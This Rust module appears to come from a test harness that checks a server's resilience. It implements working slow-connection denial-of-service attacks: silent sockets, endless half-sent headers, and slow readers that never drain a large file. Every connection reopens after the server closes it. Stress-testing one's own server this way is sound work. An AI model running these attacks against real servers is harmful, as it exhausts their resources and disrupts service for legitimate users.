//! Connections that hold on to a server's resources. Each is opened again a second after the server has closed it.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::Duration;

use anyhow::Result;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::sleep;

use super::LARGE_FILE;

/// Address of the attack; the loopback network has many.
const ATTACKER_ADDRESS: SocketAddrV4 = SocketAddrV4::new(Ipv4Addr::new(127, 0, 0, 2), 0);
const PAUSE: Duration = Duration::from_secs(1);
/// Line of a header that never ends, about 400 KiB in all, in pieces of about 16 KiB.
const FILLER: &str = "x-filler: 0123456789012345678901234567890123456789\r\n";
const LINES_IN_A_PIECE: usize = 300;
const PIECES: usize = 26;
/// Receive buffer of a reader that reads nothing, so that the kernel accepts as little as possible.
const RECEIVE_BUFFER: u32 = 4096;

/// Method by which a connection keeps a server busy.
#[derive(Clone, Copy, Debug)]
pub(super) enum Kind {
    /// Sends nothing.
    Silent,
    /// Sends a header that does not end.
    HalfHeaders,
    /// Requests a large file and reads nothing.
    SlowReaders,
}

impl Kind {
    pub(super) const ALL: [Self; 3] = [Self::Silent, Self::HalfHeaders, Self::SlowReaders];

    pub(super) fn name(self) -> &'static str {
        match self {
            Self::Silent => "silent sockets",
            Self::HalfHeaders => "half-sent headers",
            Self::SlowReaders => "slow readers",
        }
    }

    /// Returns the prefix of the IDs of the events that are sent meanwhile.
    pub(super) fn prefix(self) -> &'static str {
        match self {
            Self::Silent => "Silent",
            Self::HalfHeaders => "Half",
            Self::SlowReaders => "Slow",
        }
    }
}

/// Running attack. Its connections are closed when it is dropped.
#[derive(Debug)]
pub(super) struct Attack(JoinSet<()>);

impl Attack {
    /// Opens this number of connections.
    pub(super) fn start(host: &str, kind: Kind, sockets: usize) -> Self {
        let mut connections = JoinSet::new();
        for _ in 0..sockets {
            let host = host.to_owned();
            connections.spawn(async move {
                loop {
                    // Ends when the server closes the connection.
                    let _ = occupy(&host, kind).await;
                    sleep(PAUSE).await;
                }
            });
        }
        Self(connections)
    }

    /// Closes all connections.
    pub(super) async fn stop(mut self) {
        self.0.shutdown().await;
    }
}

async fn occupy(host: &str, kind: Kind) -> Result<()> {
    let socket = TcpSocket::new_v4()?;
    socket.set_recv_buffer_size(RECEIVE_BUFFER)?;
    socket.bind(ATTACKER_ADDRESS.into())?;
    let mut stream = socket.connect(host.parse()?).await?;
    match kind {
        Kind::Silent => until_closed(&mut stream).await,
        Kind::HalfHeaders => {
            stream.write_all(format!("GET / HTTP/1.1\r\nhost: {host}\r\n").as_bytes()).await?;
            let piece = FILLER.repeat(LINES_IN_A_PIECE);
            for _ in 0..PIECES {
                stream.write_all(piece.as_bytes()).await?;
            }
            until_closed(&mut stream).await
        }
        Kind::SlowReaders => {
            stream
                .write_all(format!("GET /{LARGE_FILE} HTTP/1.1\r\nhost: {host}\r\n\r\n").as_bytes())
                .await?;
            until_reset(&stream).await
        }
    }
}

/// Reads until the server closes the connection.
async fn until_closed(stream: &mut TcpStream) -> Result<()> {
    while stream.read(&mut [0; 512]).await? > 0 {}
    Ok(())
}

/// Waits until the server resets the connection, without reading.
async fn until_reset(stream: &TcpStream) -> Result<()> {
    loop {
        sleep(PAUSE).await;
        if let Some(error) = stream.take_error()? {
            return Err(error.into());
        }
    }
}
